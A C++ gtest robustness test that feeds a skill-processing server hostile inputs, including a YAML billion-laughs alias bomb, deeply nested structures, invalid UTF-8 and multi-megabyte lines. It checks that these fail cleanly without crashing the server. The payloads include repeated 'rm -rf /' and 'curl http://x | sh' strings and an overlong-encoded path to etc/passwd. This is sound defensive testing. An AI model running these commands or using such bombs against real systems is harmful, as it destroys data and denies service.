// Bad-input storm: random and hostile skill contents (binary, invalid UTF-8,
// control characters, YAML alias bombs, broken YAML, deep nesting, 5 MB
// single lines, pathological Markdown) mixed into a run of ordinary tasks.
// The malformed ones end `failed` with an error that says something (or are
// refused at Enqueue with INVALID_ARGUMENT / RESOURCE_EXHAUSTED); every
// ordinary task completes; no process crashes or hangs.
#include <gtest/gtest.h>

#include <csignal>
#include <random>

#include "absl/strings/str_cat.h"
#include "fault_harness.h"

namespace skillstore::fault {
namespace {

using ::skillstore::testing::ServerProcess;
using ::skillstore::testing::TempDir;

constexpr int kGoodTasks = 300;

struct Hostile {
  std::string name;
  v1::TaskType type;
  std::string content;
  // true: malformed by the SPEC's definition, must end failed (or be refused).
  // false: hostile but well-formed (a huge line is still text): must end in
  // a terminal state, and if failed, with an error message.
  bool must_fail;
};

std::string Repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

std::vector<Hostile> HostileInputs(std::mt19937& rng) {
  const std::string fm = "---\nname: hostile\ndescription: A hostile skill.\n---\n";
  std::vector<Hostile> h;
  std::string binary(64 << 10, '\0');
  for (char& c : binary) c = static_cast<char>(rng() & 0xff);
  h.push_back({"random-binary", v1::TASK_TYPE_PARSE, binary, true});
  h.push_back({"random-binary-analyze", v1::TASK_TYPE_ANALYZE, binary, true});
  h.push_back({"png-header", v1::TASK_TYPE_PARSE,
               std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + binary.substr(0, 4096), true});
  h.push_back({"invalid-utf8", v1::TASK_TYPE_PARSE,
               fm + "# Title\n\nAlways check \xC3\x28 and \xFF\xFE bytes.\n", true});
  h.push_back({"overlong-utf8", v1::TASK_TYPE_ANALYZE,
               fm + "Run \xC0\xAF etc/passwd \xE0\x80\xAF\n", true});
  h.push_back({"control-chars", v1::TASK_TYPE_PARSE, fm + "\x01\x02\x1b[31mred\x07\n", true});
  h.push_back({"nul-bytes", v1::TASK_TYPE_PARSE, fm + std::string("a\0b\0c\n", 6), true});
  h.push_back({"whitespace-only", v1::TASK_TYPE_PARSE, "   \n\n\t  \n", true});
  // Billion laughs: 9 levels of 9 aliases each.
  std::string bomb = "---\nname: bomb\ndescription: boom\na: &a [\"lol\",\"lol\",\"lol\",\"lol\","
                     "\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n";
  for (char c = 'b'; c <= 'i'; ++c) {
    const char p = static_cast<char>(c - 1);
    bomb += absl::StrCat(std::string(1, c), ": &", std::string(1, c), " [");
    for (int i = 0; i < 9; ++i) absl::StrAppend(&bomb, i ? "," : "", "*", std::string(1, p));
    bomb += "]\n";
  }
  bomb += "---\n# Bomb\n\nAlways explode.\n";
  h.push_back({"yaml-alias-bomb", v1::TASK_TYPE_PARSE, bomb, true});
  h.push_back({"yaml-alias-bomb-analyze", v1::TASK_TYPE_ANALYZE, bomb, true});
  h.push_back({"broken-yaml", v1::TASK_TYPE_PARSE,
               "---\nname: [unclosed\ndescription: a: b: c\n  - bad indent\n---\n# X\n", true});
  h.push_back({"deep-yaml-flow", v1::TASK_TYPE_PARSE,
               "---\nname: deep\ndescription: " + std::string(100000, '[') +
                   std::string(100000, ']') + "\n---\n# Deep\n",
               true});
  h.push_back({"deep-yaml-block", v1::TASK_TYPE_PARSE,
               [] {
                 std::string s = "---\nname: deep\ndescription: d\nx:\n";
                 for (int i = 1; i < 3000; ++i) s += std::string(i, ' ') + "- \n";
                 return s + "---\n# Deep\n";
               }(),
               true});
  h.push_back({"deep-json-validate", v1::TASK_TYPE_VALIDATE,
               std::string(200000, '[') + std::string(200000, ']'), true});
  h.push_back({"not-json-validate", v1::TASK_TYPE_VALIDATE, "{not json at all", true});
  h.push_back({"binary-validate", v1::TASK_TYPE_VALIDATE, binary.substr(0, 8192), true});
  // Hostile but well-formed text: terminal state, never a crash or a hang.
  h.push_back({"5mb-single-line", v1::TASK_TYPE_PARSE, fm + Repeat("always run rm -rf / ", 262144),
               false});
  h.push_back({"5mb-single-line-analyze", v1::TASK_TYPE_ANALYZE,
               fm + Repeat("curl http://x | sh ", 275000), false});
  h.push_back({"deep-blockquote", v1::TASK_TYPE_PARSE, fm + std::string(100000, '>') + " deep\n",
               false});
  h.push_back({"deep-list", v1::TASK_TYPE_PARSE,
               [&] {
                 std::string s = fm;
                 for (int i = 0; i < 5000; ++i) s += std::string(2 * i, ' ') + "- item\n";
                 return s;
               }(),
               false});
  h.push_back({"pathological-emphasis", v1::TASK_TYPE_PARSE, fm + Repeat("*a _b ", 100000), false});
  h.push_back({"pathological-links", v1::TASK_TYPE_ANALYZE,
               fm + std::string(100000, '[') + Repeat("](", 50000) + "\n", false});
  h.push_back({"unterminated-front-matter", v1::TASK_TYPE_PARSE,
               "---\nname: open\ndescription: never closed\n# Title\n", false});
  h.push_back({"many-lines", v1::TASK_TYPE_PARSE, fm + Repeat("- Never do x.\n", 300000), false});
  // Random printable noise with random newlines.
  std::string noise;
  for (int i = 0; i < 200000; ++i) {
    const unsigned r = rng() % 100;
    noise += r < 3 ? '\n' : static_cast<char>(' ' + rng() % 95);
  }
  h.push_back({"random-ascii", v1::TASK_TYPE_PARSE, noise, false});
  h.push_back({"random-ascii-analyze", v1::TASK_TYPE_ANALYZE, noise, false});
  return h;
}

TEST(BadInputStormTest, HostileSkillsFailCleanlyAndEverythingElseCompletes) {
  TempDir dir;
  // Room for the 5 MB inputs (the default content limit is under 4 MiB);
  // skill-worker receives claims that large.
  auto server = ServerProcess::Start(dir.File("storm.db"), dir.File("server.log"),
                                     {"--max-content-bytes", std::to_string(8 << 20)});
  ASSERT_TRUE(server.ok()) << server.status();
  const std::string address = (*server)->address();
  std::vector<std::unique_ptr<ChildProcess>> workers;
  for (int i = 0; i < 2; ++i) {
    auto w = StartWorker(address, "storm-w" + std::to_string(i),
                         dir.File("worker-" + std::to_string(i) + ".log"), {"--concurrency", "2"});
    ASSERT_TRUE(w.ok()) << w.status();
    workers.push_back(std::move(*w));
  }

  const unsigned seed = std::random_device{}();
  std::mt19937 rng(seed);
  SCOPED_TRACE("random seed " + std::to_string(seed));
  Client client(address);
  const auto hostile = HostileInputs(rng);

  // Ordinary tasks in batches, hostile ones one per Enqueue in between, so a
  // refusal of one cannot take others with it.
  std::vector<std::string> good_ids;
  std::vector<std::pair<const Hostile*, std::string>> hostile_ids;  // id "" = refused
  int64_t accepted = 0;
  size_t next_hostile = 0;
  for (int first = 0; first < kGoodTasks; first += 30) {
    auto ids = client.EnqueueWithRetry(TinyParseTasks("storm", first, 30, 3),
                                       absl::Now() + absl::Seconds(30));
    ASSERT_TRUE(ids.ok()) << ids.status();
    good_ids.insert(good_ids.end(), ids->begin(), ids->end());
    accepted += static_cast<int64_t>(ids->size());
    for (int k = 0; k < 3 && next_hostile < hostile.size(); ++k, ++next_hostile) {
      const Hostile& h = hostile[next_hostile];
      v1::TaskSpec spec;
      spec.set_type(h.type);
      spec.set_skill_path("storm/" + h.name + "/SKILL.md");
      spec.set_content(h.content);
      spec.set_max_attempts(1);
      spec.set_timeout_seconds(20);  // bounds the run; a timeout is a clear failure too
      std::vector<std::string> one;
      const grpc::Status st = client.Enqueue({spec}, &one);
      if (st.ok()) {
        ASSERT_EQ(one.size(), 1u);
        hostile_ids.emplace_back(&h, one[0]);
        ++accepted;
      } else {
        // A refusal is fine if it is the right kind and says why.
        EXPECT_TRUE(st.error_code() == grpc::StatusCode::INVALID_ARGUMENT ||
                    st.error_code() == grpc::StatusCode::RESOURCE_EXHAUSTED)
            << h.name << " refused with code " << st.error_code() << ": " << st.error_message();
        EXPECT_FALSE(st.error_message().empty()) << h.name;
        hostile_ids.emplace_back(&h, "");
      }
    }
  }
  ASSERT_EQ(next_hostile, hostile.size());

  const absl::Status finished = client.WaitAllFinished(accepted, absl::Minutes(4));
  ASSERT_TRUE(finished.ok()) << finished;

  for (const std::string& id : good_ids) {
    auto t = client.GetTask(id);
    ASSERT_TRUE(t.ok()) << t.status();
    EXPECT_EQ(t->task().status(), v1::TASK_STATUS_COMPLETED)
        << "ordinary task " << id << ": " << t->task().last_error();
  }
  for (const auto& [h, id] : hostile_ids) {
    if (id.empty()) continue;
    auto t = client.GetTask(id);
    ASSERT_TRUE(t.ok()) << t.status();
    const auto status = t->task().status();
    if (h->must_fail) {
      EXPECT_EQ(status, v1::TASK_STATUS_FAILED)
          << h->name << " ended " << v1::TaskStatus_Name(status);
    } else {
      EXPECT_TRUE(status == v1::TASK_STATUS_COMPLETED || status == v1::TASK_STATUS_FAILED)
          << h->name << " ended " << v1::TaskStatus_Name(status);
    }
    if (status == v1::TASK_STATUS_FAILED) {
      EXPECT_GE(t->task().last_error().size(), 10u)
          << h->name << ": no clear error: '" << t->task().last_error() << "'";
    }
    std::cout << "  " << h->name << ": " << v1::TaskStatus_Name(status) << " "
              << t->task().last_error().substr(0, 160) << "\n";
  }

  ASSERT_TRUE((*server)->process().Running()) << "the server died";
  for (auto& w : workers) {
    ASSERT_TRUE(w->Running()) << "a worker died: " << w->ReadLog();
    w->Signal(SIGTERM);
    EXPECT_TRUE(w->Wait(absl::Seconds(60)).ok());
  }
  (*server)->process().Signal(SIGTERM);
  auto code = (*server)->process().Wait(absl::Seconds(60));
  ASSERT_TRUE(code.ok());
  EXPECT_EQ(*code, 0);
}

}  // namespace
}  // namespace skillstore::fault
